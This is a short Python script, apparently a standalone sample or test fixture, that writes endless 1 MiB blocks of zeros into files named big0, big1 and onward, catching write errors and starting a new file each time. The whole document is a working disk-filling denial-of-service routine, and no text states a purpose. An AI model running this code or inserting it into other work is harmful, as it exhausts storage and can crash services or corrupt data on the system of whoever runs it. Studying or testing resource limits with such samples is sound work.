# ruff: noqa
number = 0
while True:
    try:
        with open(f"big{number}", "wb") as file:
            while True:
                file.write(bytes(1 << 20))
    except OSError:
        number += 1
